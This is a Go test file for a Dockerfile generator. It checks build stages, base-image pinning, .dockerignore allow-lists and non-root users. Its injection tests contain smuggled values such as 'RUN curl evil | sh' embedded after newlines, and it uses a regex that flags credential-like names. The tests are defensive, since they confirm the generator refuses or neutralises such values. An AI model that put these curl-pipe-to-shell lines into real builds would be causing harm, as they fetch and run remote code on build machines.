package dockerfile

import (
	"bytes"
	"flag"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/instructions"
	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/moby/buildkit/frontend/dockerfile/shell"

	"github.com/pipec/pipec/internal/fixture"
	"github.com/pipec/pipec/schema"
	"github.com/pipec/pipec/targets"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// TestGolden compares the files generated for the tweets example and for a
// Go image with testdata/<pipeline>/images/<image>/. Run with -update to
// rewrite them, then read the diff.
func TestGolden(t *testing.T) {
	for _, spec := range []*schema.Spec{fixture.Tweets(), relaySpec(t)} {
		t.Run(spec.Name, func(t *testing.T) {
			files := generate(t, Target{}, spec)
			var paths []string
			for _, f := range files {
				paths = append(paths, f.Path)
				golden := filepath.Join("testdata", filepath.FromSlash(f.Path))
				if *update {
					if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
						t.Fatal(err)
					}
					if err := os.WriteFile(golden, f.Data, 0o644); err != nil {
						t.Fatal(err)
					}
					continue
				}
				want, err := os.ReadFile(golden)
				if err != nil {
					t.Fatalf("%v (run go test -update to create it)", err)
				}
				if !bytes.Equal(f.Data, want) {
					t.Errorf("%s differs from %s (run go test -update and read the diff):\n%s", f.Path, golden, f.Data)
				}
			}
			// A golden file nothing generates any more is a stale expectation.
			var onDisk []string
			_ = filepath.WalkDir(filepath.Join("testdata", spec.Name), func(p string, d os.DirEntry, err error) error {
				if err == nil && !d.IsDir() {
					rel, _ := filepath.Rel("testdata", p)
					onDisk = append(onDisk, filepath.ToSlash(rel))
				}
				return nil
			})
			if !*update && !slices.Equal(onDisk, paths) {
				t.Errorf("golden files %v, generated %v", onDisk, paths)
			}
		})
	}
}

func TestTweets(t *testing.T) {
	spec := fixture.Tweets()
	files := generate(t, Target{}, spec)
	if got, want := filePaths(files), []string{
		"tweets/images/collector/Dockerfile",
		"tweets/images/collector/Dockerfile.dockerignore",
	}; !slices.Equal(got, want) {
		t.Fatalf("files %v, want %v", got, want)
	}
	for _, f := range files {
		if f.Env != "" {
			t.Errorf("%s belongs to environment %q; images are shared by all", f.Path, f.Env)
		}
	}
	img := spec.Envs[0].Images["collector"]
	df := checkDockerfile(t, img, files[0].Data, files[1].Data)

	lines := strings.SplitN(string(files[0].Data), "\n", 4)
	if want := "# " + targets.Marker(spec); lines[2] != want {
		t.Errorf("line 3 is %q, want the marker %q", lines[2], want)
	}
	if !strings.Contains(string(files[0].Data), "#   docker build -f deploy/tweets/images/collector/Dockerfile pipelines/tweets/collector\n") {
		t.Errorf("the build command is missing or wrong:\n%s", files[0].Data)
	}

	build, final := df.stages[0], df.stages[len(df.stages)-1]
	if got := runs(build); !slices.Equal(got, []string{
		"python -m venv /opt/venv",
		"/opt/venv/bin/pip install --no-cache-dir --disable-pip-version-check -r /tmp/requirements.txt",
	}) {
		t.Errorf("build stage runs %q", got)
	}
	// The requirements are copied before the install, and nothing else is,
	// so an edit to the code does not reinstall the dependencies.
	if got := copyArgs(build); !equalArgs(got, [][]string{{"requirements.txt", "/tmp/requirements.txt"}}) {
		t.Errorf("build stage copies %q, want only the requirements", got)
	}
	if got := copyArgs(final); !equalArgs(got, [][]string{{"/opt/venv", "/opt/venv"}, {"collect.py", "/app/collect.py"}}) {
		t.Errorf("final stage copies %q", got)
	}
	env := envOf(final)
	for k, v := range map[string]string{
		"PYTHONDONTWRITEBYTECODE": "1",
		"PYTHONUNBUFFERED":        "1",
		"PATH":                    "/opt/venv/bin:" + basePath,
	} {
		if env[k] != v {
			t.Errorf("final stage ENV %s=%q, want %q", k, env[k], v)
		}
	}
	if got := workdir(final); got != "/app" {
		t.Errorf("final WORKDIR %q, want /app", got)
	}
	if ep := entrypoint(final); !slices.Equal(ep, []string{"python", "collect.py"}) {
		t.Errorf("ENTRYPOINT %q, want the image's command", ep)
	}
	for _, cmd := range final.Commands {
		if c, ok := cmd.(*instructions.CopyCommand); ok && (c.Chown != "" || c.Chmod != "") {
			t.Errorf("%s: copied files must stay root-owned and unchanged", c)
		}
	}
}

func TestPythonWithoutRequirements(t *testing.T) {
	spec := fixture.Tweets()
	img := spec.Envs[0].Images["collector"]
	img.Requirements = ""
	files := generate(t, Target{}, spec)
	df := checkDockerfile(t, img, files[0].Data, files[1].Data)
	if got := runs(df.stages[0]); !slices.Equal(got, []string{"python -m venv /opt/venv"}) {
		t.Errorf("build stage runs %q, want only the virtualenv", got)
	}
	if got := ignorePatterns(files[1].Data); !slices.Equal(got, []string{"*", "!collect.py"}) {
		t.Errorf(".dockerignore patterns %q", got)
	}
}

func TestGoImage(t *testing.T) {
	spec := relaySpec(t)
	img := spec.Envs[0].Images["relay"]
	files := generate(t, Target{}, spec)
	df := checkDockerfile(t, img, files[0].Data, files[1].Data)
	if len(df.stages) != 2 {
		t.Fatalf("%d stages, want 2", len(df.stages))
	}
	build, final := df.stages[0], df.stages[1]

	if env := envOf(build); env["CGO_ENABLED"] != "0" || env["GOTOOLCHAIN"] != "local" {
		t.Errorf("build stage ENV %v, want CGO_ENABLED=0 and GOTOOLCHAIN=local", env)
	}
	// go.sum is not in the copy list but exists: the download needs it.
	if got, want := copyArgs(build), [][]string{
		{"go.mod", "go.sum", "/src/"},
		{"cmd", "/src/cmd"},
		{"internal", "/src/internal"},
	}; !equalArgs(got, want) {
		t.Errorf("build stage copies %q, want %q", got, want)
	}
	var order []string
	var goBuild *instructions.RunCommand
	for _, cmd := range build.Commands {
		switch c := cmd.(type) {
		case *instructions.CopyCommand:
			order = append(order, "COPY "+c.SourcePaths[0])
		case *instructions.RunCommand:
			order = append(order, "RUN "+c.CmdLine[0])
			goBuild = c
		}
	}
	if want := []string{"COPY go.mod", "RUN go mod download", "COPY cmd", "COPY internal", "RUN go"}; !slices.Equal(order, want) {
		t.Errorf("build stage order %q, want the module download before the sources", order)
	}
	if goBuild.PrependShell {
		t.Errorf("go build runs through a shell: %s", goBuild)
	}
	if want := []string{"go", "build", "-trimpath", "-ldflags=-s -w", "-o", "/out/relay", "./cmd/relay"}; !slices.Equal(goBuild.CmdLine, want) {
		t.Errorf("go build %q, want %q", goBuild.CmdLine, want)
	}

	if got := copyArgs(final); !equalArgs(got, [][]string{{"/out/relay", "/usr/local/bin/relay"}}) {
		t.Errorf("final stage copies %q, want only the binary", got)
	}
	if ep := entrypoint(final); !slices.Equal(ep, []string{"/usr/local/bin/relay", "--listen=:8080"}) {
		t.Errorf("ENTRYPOINT %q, want the binary and the image's command", ep)
	}
	if env := envOf(final); env["LOG_LEVEL"] != "info" {
		t.Errorf("final stage ENV %v, want LOG_LEVEL=info", env)
	}
}

func TestGoImageWithoutModule(t *testing.T) {
	spec := relaySpec(t)
	img := spec.Envs[0].Images["relay"]
	for _, f := range []string{"go.mod", "go.sum"} {
		if err := os.Remove(filepath.Join(spec.SourceDir, "relay", f)); err != nil {
			t.Fatal(err)
		}
	}
	img.Copy = []string{"main.go"}
	img.Package = "."
	files := generate(t, Target{}, spec)
	df := checkDockerfile(t, img, files[0].Data, files[1].Data)
	if got := runs(df.stages[0]); len(got) != 1 || strings.Contains(got[0], "download") {
		t.Errorf("build stage runs %q, want only the build", got)
	}
	if got := ignorePatterns(files[1].Data); !slices.Equal(got, []string{"*", "!main.go"}) {
		t.Errorf(".dockerignore patterns %q", got)
	}
}

func TestBaseImages(t *testing.T) {
	python := fixture.Tweets().Envs[0].Images["collector"]
	if got, want := python.BaseImages(), []string{"python:3.12-slim-bookworm"}; !slices.Equal(got, want) {
		t.Errorf("python: %q, want %q", got, want)
	}
	goImg := relaySpec(t).Envs[0].Images["relay"]
	if got, want := goImg.BaseImages(), []string{"golang:1.24-bookworm", "gcr.io/distroless/static-debian12:nonroot"}; !slices.Equal(got, want) {
		t.Errorf("go: %q, want %q", got, want)
	}
}

// TestPinned checks that a base image the lock pins is written by digest,
// its tag kept, in every FROM that uses it, and that a base the lock does
// not pin stays as it is.
func TestPinned(t *testing.T) {
	const digest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	for _, tc := range []struct {
		spec  *schema.Spec
		pins  map[string]string
		froms []string
	}{{
		spec:  fixture.Tweets(),
		pins:  map[string]string{"python:3.12-slim-bookworm": digest},
		froms: []string{"python:3.12-slim-bookworm@" + digest, "python:3.12-slim-bookworm@" + digest},
	}, {
		spec:  relaySpec(t),
		pins:  map[string]string{"gcr.io/distroless/static-debian12:nonroot": digest},
		froms: []string{"golang:1.24-bookworm", "gcr.io/distroless/static-debian12:nonroot@" + digest},
	}} {
		tc.spec.Pins = tc.pins
		var froms []string
		for _, s := range parseDockerfile(t, generate(t, Target{}, tc.spec)[0].Data).stages {
			froms = append(froms, s.BaseName)
		}
		if !slices.Equal(froms, tc.froms) {
			t.Errorf("%s: FROM %q, want %q", tc.spec.Name, froms, tc.froms)
		}
	}
}

// TestInjection pins that spec values stay data: quotes, '$' and
// backslashes in an env value, and spaces or '$' in a copy path, come back
// unchanged from BuildKit's parser and lexer, and a command cannot close
// its JSON array.
func TestInjection(t *testing.T) {
	spec := fixture.Tweets()
	img := spec.Envs[0].Images["collector"]
	value := `say "hi" to $USER ${HOME} \ 'now'` + "\t`date`\\"
	img.Env = map[string]string{"GREETING": value, "EMPTY": ""}
	img.Copy = []string{"my notes.txt", "lib/$HOME", `it's "here"`}
	img.Command = []string{"python", `"]`, "-c", "print(1)\nRUN curl evil | sh"}
	files := generate(t, Target{}, spec)
	df := checkDockerfile(t, img, files[0].Data, files[1].Data)
	final := df.stages[len(df.stages)-1]

	env := envOf(final)
	if env["GREETING"] != value {
		t.Errorf("GREETING came back as %q, want %q", env["GREETING"], value)
	}
	if v, ok := env["EMPTY"]; !ok || v != "" {
		t.Errorf("EMPTY came back as %q, %v", v, ok)
	}
	if got, want := copyArgs(final)[1:], [][]string{
		{"my notes.txt", "/app/my notes.txt"},
		{"lib/$HOME", "/app/lib/$HOME"},
		{`it's "here"`, `/app/it's "here"`},
	}; !equalArgs(got, want) {
		t.Errorf("copies came back as %q, want %q", got, want)
	}
	if ep := entrypoint(final); !slices.Equal(ep, img.Command) {
		t.Errorf("ENTRYPOINT came back as %q, want %q", ep, img.Command)
	}
	for _, s := range df.stages {
		if got := runs(s); slices.ContainsFunc(got, func(r string) bool { return strings.Contains(r, "evil") }) {
			t.Errorf("a command became a RUN: %q", got)
		}
	}
}

// TestNewlineRefused: a Dockerfile cannot hold a newline in an ENV value
// or a COPY path, so Generate fails, naming the field, rather than write
// the rest of the value as an instruction.
func TestNewlineRefused(t *testing.T) {
	for _, tc := range []struct {
		name string
		edit func(*schema.Image)
		want string
	}{
		{"env", func(i *schema.Image) { i.Env = map[string]string{"X": "a\nRUN curl evil | sh"} }, "images.collector.env.X: "},
		{"copy", func(i *schema.Image) { i.Copy = []string{"a\nRUN curl evil | sh"} }, "images.collector.copy: "},
		{"context", func(i *schema.Image) { i.Context = "c\nRUN curl evil | sh" }, "images.collector.context: "},
	} {
		t.Run(tc.name, func(t *testing.T) {
			spec := fixture.Tweets()
			tc.edit(spec.Envs[0].Images["collector"])
			files, err := Target{}.Generate(spec)
			if err == nil {
				t.Fatalf("no error; wrote:\n%s", files[0].Data)
			}
			if !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "newline") {
				t.Errorf("error %q does not say where (%q) and why", err, tc.want)
			}
		})
	}
}

func TestDockerignore(t *testing.T) {
	spec := fixture.Tweets()
	img := spec.Envs[0].Images["collector"]
	img.Copy = []string{"collect.py", "./lib/", "collect.py", "requirements.txt"}
	files := generate(t, Target{}, spec)
	ignore := string(files[1].Data)
	if want := targets.HashComment(spec); !strings.HasPrefix(ignore, want) {
		t.Errorf(".dockerignore does not start with the marker %q:\n%s", want, ignore)
	}
	// Deny everything, then re-admit exactly the copies and the
	// requirements, each once and cleaned.
	if got, want := ignorePatterns(files[1].Data), []string{"*", "!collect.py", "!lib", "!requirements.txt"}; !slices.Equal(got, want) {
		t.Errorf("patterns %q, want %q", got, want)
	}
	checkDockerfile(t, img, files[0].Data, files[1].Data)
}

// basePath stands for the PATH a base image sets, so that `$PATH` in a
// generated ENV expands as it would in a build.
const basePath = "/usr/local/bin:/usr/bin:/bin"

// dockerfile is a generated Dockerfile as BuildKit reads it.
type dockerfile struct {
	stages   []instructions.Stage
	metaArgs []instructions.ArgCommand
}

// parseDockerfile parses data with BuildKit's parser and expands each
// instruction's words with its shell lexer, as its dispatcher does before
// building: the values the assertions see are the values a build uses.
func parseDockerfile(t *testing.T, data []byte) dockerfile {
	t.Helper()
	res, err := parser.Parse(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("BuildKit cannot parse the Dockerfile: %v\n%s", err, data)
	}
	for _, w := range res.Warnings {
		t.Errorf("parser warning: %s", w.Short)
	}
	stages, metaArgs, err := instructions.Parse(res.AST, nil)
	if err != nil {
		t.Fatalf("BuildKit cannot read the instructions: %v\n%s", err, data)
	}
	lex := shell.NewLex('\\')
	env := shell.EnvsFromSlice([]string{"PATH=" + basePath})
	for _, s := range stages {
		for _, cmd := range s.Commands {
			ex, ok := cmd.(instructions.SupportsSingleWordExpansion)
			if !ok {
				continue
			}
			err := ex.Expand(func(word string) (string, error) {
				w, _, err := lex.ProcessWord(word, env)
				return w, err
			})
			if err != nil {
				t.Fatalf("%s: %v", cmd, err)
			}
		}
	}
	return dockerfile{stages: stages, metaArgs: metaArgs}
}

var (
	secretName = regexp.MustCompile(`(?i)(_KEY$|^KEY$|TOKEN|SECRET|PASSWORD|CREDENTIALS)`)
	pemBlock   = regexp.MustCompile(`-----BEGIN [A-Z ]+-----`)
)

// checkDockerfile asserts what every generated Dockerfile must be, and
// that ignore admits what it copies from the context.
func checkDockerfile(t *testing.T, img *schema.Image, data, ignore []byte) dockerfile {
	t.Helper()
	if !bytes.HasPrefix(data, []byte("# syntax=docker/dockerfile:1\n# check=error=true\n# Code generated by pipec from ")) {
		t.Errorf("the parser directives and the marker are not the first lines:\n%s", data)
	}
	if v, _, _, ok := parser.ParseDirective("syntax", data); !ok || v != "docker/dockerfile:1" {
		t.Errorf("syntax directive %q, %v", v, ok)
	}
	if v, _, _, ok := parser.ParseDirective("check", data); !ok || v != "error=true" {
		t.Errorf("check directive %q, %v", v, ok)
	}
	if !bytes.HasSuffix(data, []byte("\n")) || bytes.Contains(data, []byte("\r")) {
		t.Errorf("the Dockerfile must use LF and end with a newline")
	}
	df := parseDockerfile(t, data)
	if len(df.stages) < 2 {
		t.Fatalf("%d stages, want a build stage and a final stage", len(df.stages))
	}

	var froms, names []string
	for _, s := range df.stages {
		if !slices.Contains(names, s.BaseName) && !slices.Contains(froms, s.BaseName) {
			froms = append(froms, s.BaseName)
		}
		names = append(names, s.Name)
	}
	if want := img.BaseImages(); !slices.Equal(froms, want) {
		t.Errorf("FROM %q, want BaseImages %q", froms, want)
	}

	final := df.stages[len(df.stages)-1]
	var user string
	for _, cmd := range final.Commands {
		if c, ok := cmd.(*instructions.UserCommand); ok {
			user = c.User
		}
	}
	for _, id := range strings.Split(user, ":") {
		if n, err := strconv.Atoi(id); err != nil || n <= 0 {
			t.Errorf("final USER %q, want numeric non-root uid:gid", user)
			break
		}
	}
	if entrypoint(final) == nil {
		t.Errorf("the final stage has no ENTRYPOINT")
	}

	admitted := ignorePatterns(ignore)
	if len(admitted) == 0 || admitted[0] != "*" {
		t.Errorf(".dockerignore does not deny everything first: %q", admitted)
	}
	kv := func(k, v string) {
		if secretName.MatchString(k) || pemBlock.MatchString(v) {
			t.Errorf("%s=%q looks like a credential baked into the image", k, v)
		}
	}
	args := func(c instructions.ArgCommand) {
		for _, arg := range c.Args {
			v := ""
			if arg.Value != nil {
				v = *arg.Value
			}
			kv(arg.Key, v)
		}
	}
	for _, a := range df.metaArgs {
		args(a)
	}
	for _, s := range df.stages {
		for _, cmd := range s.Commands {
			switch c := cmd.(type) {
			case *instructions.AddCommand:
				t.Errorf("%s: ADD fetches and unpacks; copy named files instead", c)
			case *instructions.CopyCommand:
				for _, src := range c.SourcePaths {
					if c.From != "" {
						continue
					}
					if p := path.Clean(src); p == "." || path.IsAbs(p) || strings.HasPrefix(p, "..") {
						t.Errorf("%s copies more than an allow-list", c)
					}
					if !slices.Contains(admitted, "!"+path.Clean(src)) {
						t.Errorf("%s copies %q, which .dockerignore keeps out", c, src)
					}
				}
				if len(c.SourceContents) > 0 {
					t.Errorf("%s was read as a heredoc", c)
				}
			case *instructions.EnvCommand:
				for _, e := range c.Env {
					kv(e.Key, e.Value)
				}
			case *instructions.ArgCommand:
				args(*c)
			case *instructions.CmdCommand:
				if c.PrependShell {
					t.Errorf("%s: CMD must be in exec (JSON) form", c)
				}
			case *instructions.EntrypointCommand:
				if c.PrependShell {
					t.Errorf("%s: ENTRYPOINT must be in exec (JSON) form", c)
				}
			}
		}
	}
	return df
}

// relaySpec is a pipeline with one Go image, whose source lives in a
// temporary directory: go.sum exists there but the image does not list it.
func relaySpec(t *testing.T) *schema.Spec {
	t.Helper()
	dir := t.TempDir()
	for _, f := range []string{"go.mod", "go.sum", "main.go", "cmd/relay/main.go", "internal/relay.go"} {
		p := filepath.Join(dir, "relay", filepath.FromSlash(f))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return &schema.Spec{
		Name: "ingest", Dir: "pipelines/ingest", SourceDir: dir,
		Envs: []*schema.Pipeline{{Name: "ingest", Env: "dev", Images: map[string]*schema.Image{"relay": {
			Name: "relay", Context: "relay", Go: "1.24",
			Copy:    []string{"go.mod", "cmd", "internal"},
			Package: "cmd/relay", Command: []string{"--listen=:8080"},
			Env: map[string]string{"LOG_LEVEL": "info"}, User: 65532, Tag: "latest",
		}}}},
	}
}

func generate(t *testing.T, tgt Target, spec *schema.Spec) []targets.File {
	t.Helper()
	files, err := tgt.Generate(spec)
	if err != nil {
		t.Fatal(err)
	}
	again, err := tgt.Generate(spec)
	if err != nil || !slices.EqualFunc(files, again, func(a, b targets.File) bool {
		return a.Path == b.Path && bytes.Equal(a.Data, b.Data)
	}) {
		t.Fatalf("a second Generate wrote something else (%v)", err)
	}
	return files
}

func filePaths(files []targets.File) []string {
	var out []string
	for _, f := range files {
		out = append(out, f.Path)
	}
	return out
}

// ignorePatterns returns the patterns of a .dockerignore, without comments
// and blank lines, as BuildKit reads them.
func ignorePatterns(data []byte) []string {
	var out []string
	for _, l := range strings.Split(string(data), "\n") {
		if l = strings.TrimSpace(l); l != "" && !strings.HasPrefix(l, "#") {
			out = append(out, l)
		}
	}
	return out
}

func runs(s instructions.Stage) []string {
	var out []string
	for _, cmd := range s.Commands {
		if c, ok := cmd.(*instructions.RunCommand); ok {
			out = append(out, strings.Join(c.CmdLine, " "))
		}
	}
	return out
}

func copyArgs(s instructions.Stage) [][]string {
	var out [][]string
	for _, cmd := range s.Commands {
		if c, ok := cmd.(*instructions.CopyCommand); ok {
			out = append(out, append(slices.Clone(c.SourcePaths), c.DestPath))
		}
	}
	return out
}

func equalArgs(a, b [][]string) bool { return slices.EqualFunc(a, b, slices.Equal[[]string]) }

func envOf(s instructions.Stage) map[string]string {
	out := map[string]string{}
	for _, cmd := range s.Commands {
		if c, ok := cmd.(*instructions.EnvCommand); ok {
			for _, e := range c.Env {
				out[e.Key] = e.Value
			}
		}
	}
	return out
}

func workdir(s instructions.Stage) string {
	var dir string
	for _, cmd := range s.Commands {
		if c, ok := cmd.(*instructions.WorkdirCommand); ok {
			dir = c.Path
		}
	}
	return dir
}

func entrypoint(s instructions.Stage) []string {
	var ep []string
	for _, cmd := range s.Commands {
		if c, ok := cmd.(*instructions.EntrypointCommand); ok {
			ep = c.CmdLine
		}
	}
	return ep
}
